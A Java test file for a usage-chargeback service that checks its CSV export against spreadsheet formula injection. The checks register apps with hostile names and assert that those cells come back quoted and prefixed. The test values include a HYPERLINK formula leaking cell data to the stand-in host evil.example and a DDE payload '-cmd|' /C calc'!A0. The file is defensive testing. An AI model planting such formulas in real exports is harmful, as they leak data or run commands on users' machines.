package dev.tollgate.reporting;

import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import dev.tollgate.metering.Usage;
import dev.tollgate.metering.UsageRecord;
import dev.tollgate.metering.UsageSource;
import dev.tollgate.metering.UsageWriter;
import dev.tollgate.routing.DeploymentType;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import jakarta.inject.Inject;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV report against spreadsheet formula injection (OWASP "CSV Injection"): hostile names registered through
 * /api/apps, usage written by the real writer, the report read through real HTTP.
 */
@QuarkusTest
class ChargebackCsvTest {

    private static final String DAY = "2026-02-14";
    private static final byte[] UTF8_BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    @Inject
    UsageWriter writer;

    private final String run = UUID.randomUUID().toString().substring(0, 8);
    private final List<String> registered = new ArrayList<>();

    @AfterEach
    void removeApps() {
        registered.forEach(app -> given().auth().oauth2(ChargebackTest.ADMIN).delete("/api/apps/" + app));
    }

    @Test
    void textCellsThatASpreadsheetWouldRunAreQuotedAndPrefixedWhileNumbersStayNumbers() throws Exception {
        String formula = "csv-formula-" + run;
        String at = "csv-at-" + run;
        String plain = "csv-plain-" + run;
        register(formula, "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")", "+SUM(1,2)", "-1+2");
        register(at, "@SUM(A1:A9)", "Zürich", "CC=1");
        register(plain, "Claims triage", "Insurance", "CC-4711");
        writer.write(List.of(record(formula), record(at), record(plain)));

        byte[] body = given().auth().oauth2(ChargebackTest.READER)
                .get("/api/chargeback?from=" + DAY + "&to=" + LocalDate.parse(DAY).plusDays(1)
                        + "&groupBy=app,businessUnit,costCenter&format=csv")
                .then().statusCode(200).contentType("text/csv; charset=UTF-8").extract().asByteArray();

        assertThat(Arrays.copyOf(body, 3)).as("UTF-8 byte-order mark").isEqualTo(UTF8_BOM);
        String csv = new String(body, 3, body.length - 3, StandardCharsets.UTF_8);
        assertThat(csv).startsWith("\"app\",\"appName\",\"businessUnit\",\"costCenter\",\"requests\",");

        String number = "\\d+\\.\\d+";
        String figures = ",1,1200,256,300,0,1500," + number + "," + number + ",0,\"USD\",0,0\\.0000,0,0,0,,";
        assertThat(line(csv, formula)).matches("\"" + formula
                + "\",\"'=HYPERLINK\\(\"\"https://evil\\.example/\\?leak=\"\"&A2,\"\"Open\"\"\\)\",\"'\\+SUM\\(1,2\\)\",\"'-1\\+2\""
                + figures);
        assertThat(line(csv, at)).matches("\"" + at + "\",\"'@SUM\\(A1:A9\\)\",\"Zürich\",\"CC=1\"" + figures);
        assertThat(line(csv, plain)).matches("\"" + plain + "\",\"Claims triage\",\"Insurance\",\"CC-4711\"" + figures);

        // A CSV reader gets each name back with the single quote in front of it, and the figures as numbers.
        Map<String, Map<String, String>> byApp = new LinkedHashMap<>();
        new CsvMapper().readerForMapOf(String.class).with(CsvSchema.emptySchema().withHeader())
                .<Map<String, String>>readValues(csv).forEachRemaining(row -> byApp.put(row.get("app"), row));
        assertThat(byApp.get(formula)).containsEntry("appName", "'=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")")
                .containsEntry("businessUnit", "'+SUM(1,2)").containsEntry("costCenter", "'-1+2");
        assertThat(byApp.get(at)).containsEntry("appName", "'@SUM(A1:A9)").containsEntry("businessUnit", "Zürich");
        assertThat(new BigDecimal(byApp.get(plain).get("cost"))).isPositive();
    }

    @Test
    void tabAndCarriageReturnAreNeutralisedAndANegativeCostIsStillANumber() {
        ChargebackReport.Figures figures = new ChargebackReport.Figures(3, 10, 0, 5, 0, 15, new BigDecimal("-12.50"),
                new BigDecimal("-12.50"), BigDecimal.ZERO, 0, null, 0, 0, 0);
        Map<String, String> group = new LinkedHashMap<>();
        group.put("app", "\tcmd");
        group.put("appName", "\r=1+1");
        group.put("model", "-cmd|' /C calc'!A0");
        Map<String, String> idle = new LinkedHashMap<>();
        idle.put("app", null);
        idle.put("appName", null);
        idle.put("model", null);
        ChargebackReport report = new ChargebackReport(LocalDate.parse(DAY), LocalDate.parse(DAY).plusDays(1), "UTC",
                "USD", List.of("app", "model"), "rollups", List.of(new ChargebackReport.Row(group, null, null, figures), new ChargebackReport.Row(idle, "=platform",
                "idle provisioned capacity", figures)), figures);

        String csv = ChargebackCsv.of(report, List.of(ChargebackGrouping.APP, ChargebackGrouping.MODEL));

        assertThat(csv).isEqualTo("\uFEFF\"app\",\"appName\",\"model\",\"requests\",\"inputTokens\",\"cachedInputTokens\","
                + "\"outputTokens\",\"reasoningTokens\",\"totalTokens\",\"cost\",\"paygCost\",\"provisionedCost\","
                + "\"currency\",\"estimatedRequests\",\"estimatedShare\",\"missingRequests\",\"unpricedRequests\","
                + "\"unpricedTokens\",\"owner\",\"reason\"\n"
                + "\"'\tcmd\",\"'\r=1+1\",\"'-cmd|' /C calc'!A0\",3,10,0,5,0,15,-12.50,-12.50,0,\"USD\",0,,0,0,0,,\n"
                + ",,,3,10,0,5,0,15,-12.50,-12.50,0,\"USD\",0,,0,0,0,\"'=platform\",\"idle provisioned capacity\"\n");
    }

    private void register(String app, String displayName, String businessUnit, String costCenter) {
        registered.add(app);
        given().auth().oauth2(ChargebackTest.ADMIN).contentType(ContentType.JSON)
                .body(Map.of("displayName", displayName, "businessUnit", businessUnit, "costCenter", costCenter))
                .put("/api/apps/" + app).then().statusCode(201);
    }

    private static UsageRecord record(String app) {
        return new UsageRecord(UUID.randomUUID(), Instant.parse(DAY + "T10:00:00Z"), app, "tenant", "gpt-4o",
                "gpt-4o-2024-08-06", "sim-1", "swedencentral", DeploymentType.GLOBAL, "chat/completions", false, 200,
                40, 1, new Usage(1200, 256, 300, 0, 1500, UsageSource.REPORTED), null, null);
    }

    private static String line(String csv, String app) {
        return csv.lines().filter(line -> line.startsWith("\"" + app + "\"")).findFirst()
                .orElseThrow(() -> new AssertionError("No line for " + app + " in\n" + csv));
    }
}
